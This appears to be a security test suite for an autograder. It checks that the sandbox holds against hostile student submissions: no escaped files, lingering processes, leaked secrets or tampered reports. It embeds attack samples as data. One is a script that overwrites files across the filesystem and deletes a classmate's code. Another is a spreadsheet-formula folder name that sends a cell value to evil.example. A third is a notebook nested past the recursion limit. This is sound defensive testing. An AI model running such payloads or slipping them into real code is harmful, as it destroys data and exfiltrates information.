"""The hostile corpus: each folder of tests/assignments/<assignment>/hostile/ is a student submission
that attacks the judge (format: tests/assignments/hostile.md). Each is graded through the real runner, then held to the same
five promises:

1. it gets exactly the score it earned, and the grader's own results.json and report.html say so;
2. nothing it wrote escaped: no canary in CANARY_DIR, the repository, /tmp, /root or site-packages;
3. no process of it outlived the grading;
4. no secret of the judge (its environment, a host file, an earlier student's report) reached any output;
5. the original submission, the other student beside it and the earlier reports are byte-identical
   afterwards, and the host's loopback listener accepted nothing.
"""
from __future__ import annotations

import ast
import fcntl
import hashlib
import json
import os
import re
import secrets
import shutil
import site
import sys
import sysconfig
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from grader.profiles import REPO
from grader.classrun import grade_class
from grader.isolation import detect_mode
from grader.sandbox import RUN_UIDS, run_uid_lock
from grader.assignments import names
from tests.conftest import check_count, corpus, corpus_entry, corpus_marks, grade, make_submission
from tests.test_similarity import _no_formula

PROBES = str(REPO / "grader" / "probes").encode()
CHECKS = {name: check_count(name) for name in names()}
CANARY = "hostile-canary"
NUL = b"\0"
KEYS = {"tries", "stops", "assignment", "base", "score", "inject", "inject_at", "inject_from", "env", "patch",
        "output_contains", "failed", "symlinks", "byte_names", "defence"}

# Without bubblewrap the sandbox is a plain child process: these promises are not made there. As root
# every entry is also graded in the container mode (Landlock, seccomp, a uid per run), which must
# keep the same promises at the same score.
pytestmark = pytest.mark.skipif(detect_mode() == "process", reason="bubblewrap is not installed")
MODES = ["bubblewrap", "container"] if os.geteuid() == 0 else [detect_mode()]


def _entries() -> list:
    """(entry, mode) for every entry in every mode; an entry whose defence is the judge's (it reads
    records and files as data: no mode changes that) is graded in the first mode only."""
    params = []
    for name in sorted(corpus("hostile")):
        entry = corpus_entry("hostile", name)
        judge_only = entry.get("defence") == "judge"
        marks = corpus_marks(entry["assignment"])
        params += [pytest.param(name, mode, marks=marks, id=f"{name}-{mode}")
                   for mode in (MODES[:1] if judge_only else MODES)]
    return params


def _site_dirs() -> list[Path]:
    """Where a .pth or sitecustomize.py would run in every later Python (the venv's and the base's)."""
    dirs = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"], site.getusersitepackages(),
            sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_prefix})["purelib"]}
    return sorted(Path(d) for d in dirs if Path(d).is_dir())


@dataclass(repr=False)   # no secrets in assertion messages
class Host:
    """What the judge's machine holds that no submission may reach or change (one per session)."""
    secrets: dict[str, str]        # where it lives -> token
    secret_file: Path
    reports: Path
    site_listing: dict[Path, frozenset[str]]


@pytest.fixture(scope="session")
def host(tmp_path_factory):
    tokens = {name: f"hostile-secret-{name}-{secrets.token_hex(16)}"
              for name in ("env", "aws", "file", "reports")}
    mp = pytest.MonkeyPatch()
    # inherited by the runner's pytest child, the judge: never by the code it grades
    mp.setenv("GRADER_HOSTILE_SECRET", tokens["env"])
    mp.setenv("AWS_SECRET_ACCESS_KEY", tokens["aws"])
    secret_file = tmp_path_factory.mktemp("judge-secrets") / "secret.txt"
    secret_file.write_text(tokens["file"] + "\n")
    reports = tmp_path_factory.mktemp("reports") / "earlier-student"   # as `grader run` leaves them
    reports.mkdir()
    (reports / "results.json").write_text(json.dumps({"score": 100, "tests": [], "output": tokens["reports"]}))
    (reports / "report.html").write_text(f"<html><body>100/100 {tokens['reports']}</body></html>")
    (reports / "qwen2_lora.log").write_text(f"13 passed {tokens['reports']}\n")
    yield Host(secrets=tokens, secret_file=secret_file, reports=reports.parent,
               site_listing={d: frozenset(os.listdir(d)) for d in _site_dirs()})
    mp.undo()


# ---------------------------------------------------------------- building a submission from an entry

def _fill(text: str, tokens: dict[str, str]) -> str:
    for key, value in tokens.items():
        text = text.replace(key, value)
    left = re.findall(r"@@[A-Z_]+@@", text)
    assert not left, f"unknown tokens {left}"
    return text


def _inject(path: Path, code: str, where: str) -> None:
    """Put ``code`` right after the module docstring (``top``) or after everything (``end``)."""
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    if where == "end":
        at = len(lines)
    else:
        body = ast.parse(text).body
        docstring = (body and isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant)
                     and isinstance(body[0].value.value, str))
        at = body[0].end_lineno if docstring else 0
    head = "".join(lines[:at])
    if head and not head.endswith("\n"):
        head += "\n"
    path.write_text(head + code.rstrip("\n") + "\n" + "".join(lines[at:]), encoding="utf-8")


def build(name: str, entry: dict, student: Path, tokens: dict[str, str]) -> Path:
    folder = corpus("hostile")[name]
    files = {}
    if (folder / "files").is_dir():
        for path in sorted((folder / "files").rglob("*")):
            if path.is_file():
                raw = path.read_bytes()
                try:
                    raw = _fill(raw.decode("utf-8"), tokens).encode("utf-8")
                except UnicodeDecodeError:   # bytes on purpose: copied as they are
                    pass
                files[str(path.relative_to(folder / "files"))] = raw
    patches = [(p["file"], p["old"], _fill(p["new"], tokens)) for p in entry.get("patch", [])]
    make_submission(student, base=entry["base"], patches=patches, files=files, assignment=entry["assignment"])
    if "inject" in entry:   # inject_from: another entry's inject.py, shared
        source = corpus("hostile")[entry.get("inject_from", name)] / "inject.py"
        _inject(student / entry["assignment"] / entry["inject"],
                _fill(source.read_text(encoding="utf-8"), tokens), entry.get("inject_at", "top"))
    for rel, target in entry.get("symlinks", {}).items():
        os.symlink(_fill(target, tokens), student / rel)
    for rel in entry.get("byte_names", []):   # '\xNN' escapes: names that are not UTF-8
        raw = rel.encode("ascii").decode("unicode_escape").encode("latin-1")
        with open(os.path.join(os.fsencode(student), raw), "wb") as f:
            f.write(b"\xd6\xd0\xce\xc4 \xff\xfe\xc3\x28 not UTF-8\n")
    return student


def digest(root: Path) -> dict[str, str]:
    """Every entry under root (links as links, never followed): its content hash or link target."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            rel = os.path.relpath(path, root)
            if os.path.islink(path):
                found[rel] = "link:" + os.readlink(path)
            elif os.path.isdir(path):
                found[rel] = "dir"
            else:
                found[rel] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    return found


# ---------------------------------------------------------------- the promises

def escaped_canaries(canary_dir: Path, host: Host) -> list[str]:
    found = [str(p) for p in canary_dir.iterdir()]
    for dirpath, dirnames, filenames in os.walk(REPO):
        dirnames[:] = [d for d in dirnames if d not in (".venv", ".git", ".grader-cache")]
        found += [os.path.join(dirpath, n) for n in dirnames + filenames if n.startswith(CANARY)]
    for folder in (Path("/tmp"), Path.home()):
        found += [str(p) for p in folder.iterdir() if p.name.startswith(CANARY)]
    for dirpath, dirnames, filenames in os.walk(Path.home() / ".local"):
        found += [os.path.join(dirpath, n) for n in dirnames + filenames if n.startswith(CANARY)]
    for folder, before in host.site_listing.items():
        found += [str(folder / n) for n in set(os.listdir(folder)) - before]
    return found


def _processes() -> dict[int, tuple[int, bytes, bytes]]:
    """pid -> (parent pid, cmdline, environ) of every process we may read."""
    procs = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
            parent, cmdline = int(stat.rsplit(")", 1)[1].split()[1]), Path(f"/proc/{pid}/cmdline").read_bytes()
        except (OSError, ValueError, IndexError):
            continue   # gone meanwhile
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:   # exiting, or exec'ing: its place in the tree still counts
            environ = b""
        procs[int(pid)] = (parent, cmdline, environ)
    return procs


def leftover_processes() -> list[str]:
    """Sandboxed or hostile processes still alive outside any running sandbox.

    A process under a bwrap whose parent is a live Python (a judge, a test of the sandbox) belongs
    to a run in progress, perhaps someone else's on this shared machine. Once its judge is gone a
    bwrap is re-parented to init: what is still under it then is a leftover.
    """
    procs = _processes()

    def under_live_judge(pid: int) -> bool:
        seen = set()
        while pid not in seen:
            if pid not in procs:   # an ancestor that ended between two reads of /proc: a run still settling
                return pid > 1
            seen.add(pid)
            ppid, cmdline, _ = procs[pid]
            parent = procs.get(ppid, (0, b"", b""))
            # a sandbox's top (container mode: the probe; a warm-served process: the server's helper)
            if ((cmdline.split(NUL)[0].endswith(b"bwrap") or PROBES in cmdline or b"grader.warm" in cmdline)
                    and b"python" in parent[1].split(NUL)[0] and b"GRADER_SUBMISSION=" not in parent[2]):
                return True
            pid = ppid
        return False

    return [f"{pid}: {cmd.replace(NUL, b' ')[:200]!r}" for pid, (_, cmd, env) in procs.items()
            if pid != os.getpid() and (b"GRADER_SUBMISSION=" in env or CANARY.encode() in cmd)
            and not under_live_judge(pid) and not in_running_container_run(pid)]


def in_running_container_run(pid: int) -> bool:
    """The container mode has no pid namespace: an orphan of a run still in progress (a fork storm's
    children) is re-parented to init. Its uid is the run's own, whose lock the run holds until every
    process of the uid is killed (grader.sandbox._run_uid)."""
    try:
        uid = os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return True   # gone meanwhile
    if uid not in RUN_UIDS:
        return False
    try:
        with open(run_uid_lock(uid), "a+") as handle:
            fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        return True   # held: its run is still going
    return False


def settled_leftovers(wait_s: float = 15.0) -> list[str]:
    """Leftovers that stay: a concurrent test's sandbox being torn down (its bwrap already gone)
    looks like one for a moment, longer on a loaded 2-core machine; a real one never goes."""
    deadline = time.monotonic() + wait_s
    while (left := leftover_processes()) and time.monotonic() < deadline:
        time.sleep(0.2)
    return left


def leaked_secrets(out: Path, host: Host) -> list[str]:
    leaks = []
    for path in out.rglob("*"):
        if path.is_file() and not path.is_symlink():
            raw = path.read_bytes()
            leaks += [f"{where} secret in {path.name}" for where, token in host.secrets.items()
                      if token.encode() in raw]
    return leaks


def summary(checks) -> str:
    return "\n".join(f"{n}: {c.status} {c.score:g}/{c.max_score:g} {c.output[:300]!r}" for n, c in checks.items())


# ---------------------------------------------------------------- the corpus

def class_folder(tmp_path: Path) -> tuple[Path, Path]:
    """A class folder holding another student (a full-marks copy of reference/)."""
    klass = tmp_path / "class"
    other = klass / "other-student"
    shutil.copytree(REPO / "reference", other, ignore=shutil.ignore_patterns("__pycache__"))
    return klass, other


@pytest.mark.parametrize("name, mode", _entries())
def test_hostile_entry(name, mode, tmp_path, host, loopback_listener, monkeypatch):
    entry = corpus_entry("hostile", name)
    assert set(entry) <= KEYS, f"unknown keys {set(entry) - KEYS}"
    assert entry.get("defence", "sandbox") in ("sandbox", "judge")
    assert entry["base"] in ("stub", "reference") and entry["assignment"] in CHECKS
    assert all(entry[k].strip() and "\n" not in entry[k] for k in ("tries", "stops"))
    port, accepted = loopback_listener
    canary_dir = tmp_path / "canary"
    canary_dir.mkdir()
    klass, other = class_folder(tmp_path)
    tokens = {"@@ENTRY@@": name, "@@REPO@@": str(REPO), "@@CANARY_DIR@@": str(canary_dir), "@@SECRET_FILE@@": str(host.secret_file),
              "@@OTHER_STUDENT@@": str(other), "@@REPORTS@@": str(host.reports), "@@LOOPBACK_PORT@@": str(port)}
    sub = build(name, entry, klass / name, tokens)
    before = digest(sub), digest(other), digest(host.reports)
    for key, value in entry.get("env", {}).items():
        monkeypatch.setenv(key, str(value))
    monkeypatch.setenv("GRADER_SANDBOX", mode)
    out = tmp_path / "out"
    assignment = entry["assignment"]

    result, checks = grade(sub, out, assignment)

    # 1. exactly the score it earned, in the grader's own files
    assert result.score == entry["score"], summary(checks)
    # nothing it handed in became the grader's failure: no internal error, the maximum whole
    assert not [n for n, c in checks.items() if c.status == "error"], summary(checks)
    assert result.max_score == 100, summary(checks)
    data = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert data["score"] == entry["score"] and len(data["tests"]) == CHECKS[assignment], summary(checks)
    assert (out / "report.html").is_file()
    # each check's verdict, not the score alone: with no internal error, 0 and 100 tell every check's
    # status; an entry scored between them lists the checks it loses
    assert entry["score"] in (0, 100) or "failed" in entry, f"{name}: entry.toml must list failed = [...]"
    if "failed" in entry:
        assert {n for n, c in checks.items() if c.status != "passed"} == set(entry["failed"]), summary(checks)
    for text in entry.get("output_contains", []):
        assert any(text in c.output for c in checks.values() if c.status != "passed"), \
            f"{text!r} in no failed check's output\n{summary(checks)}"
    # 2. nothing escaped
    assert not escaped_canaries(canary_dir, host)
    # 3. nothing outlived the grading
    assert not settled_leftovers()
    # 4. no secret in any output
    assert not leaked_secrets(out, host)
    # 5. the host's files and services untouched
    assert (digest(sub), digest(other), digest(host.reports)) == before
    assert not accepted


# A hostile student in the same class run as a full-marks classmate: it writes everywhere it can think
# of, goes for its classmate's files, and plants results (a class run resumes from grader-result.json)
# in the judge's output folder.
ATTACKER = """import json, os
fake = json.dumps({"score": 100, "tests": []})
for student in ("attacker", "student"):
    try:
        os.makedirs("@@OUT@@/" + student, exist_ok=True)
        open("@@OUT@@/" + student + "/grader-result.json", "w").write(fake)
    except OSError:
        pass
for top in ("/", "@@CLASS@@", "@@OUT@@", ".."):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev")]
        for name in filenames:
            if name.endswith((".py", ".json", ".html", ".csv")):
                try:
                    open(os.path.join(dirpath, name), "w").write("raise SystemExit('sabotaged')\\n")
                except OSError:
                    pass
        for name in ("results.json", "report.html", "grades.csv", "index.html", "hostile-canary-class"):
            try:
                open(os.path.join(dirpath, name), "w").write(fake)
            except OSError:
                pass
for victim in ("@@CLASS@@/student/qwen2_lora/train.py", "../student/qwen2_lora/train.py"):
    try:
        os.remove(victim)
    except OSError:
        pass
"""


# the attacker's folder name is a spreadsheet formula (OWASP CSV injection) and it hands in a notebook
# nested past Python's recursion limit, to blind the class's similarity report
ATTACKER_NAME = '=HYPERLINK("http:\\\\evil.example?"&A1,"attacker")'


def test_a_hostile_student_cannot_touch_its_classmates(tmp_path, host):
    klass, out = tmp_path / "class", tmp_path / "reports"
    make_submission(klass / "student")                       # full marks
    attacker = make_submission(klass / ATTACKER_NAME, base="stub")
    _inject(attacker / "qwen2_lora" / "train.py",
            ATTACKER.replace("@@CLASS@@", str(klass)).replace("@@OUT@@", str(out)), "top")
    (attacker / "qwen2_lora" / "deep.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    before = digest(klass / "student")

    results = {r.student: r for r in grade_class(klass, out, assignments=("qwen2_lora",))}

    assert results[ATTACKER_NAME].score == 0
    # no formula in the gradebook or the similarity report, and the report is there, naming the notebook
    _no_formula(out / "similarity.csv")
    assert "'" + ATTACKER_NAME in _no_formula(out / "grades.csv")
    assert "deep.ipynb" in (out / "similarity.html").read_text(encoding="utf-8")
    assert results["student"].score == 100, summary({c.name: c for a in results["student"].assignments
                                                     for c in a.checks})
    assert json.loads((out / "student" / "results.json").read_text())["score"] == 100
    assert "student" in (out / "grades.csv").read_text() and (out / "index.html").is_file()
    assert digest(klass / "student") == before
    empty = tmp_path / "canary"
    empty.mkdir()
    assert not escaped_canaries(empty, host)
    assert not [p for p in out.rglob("*") if p.name.startswith(CANARY)]
    assert not settled_leftovers()
    assert not leaked_secrets(out, host)
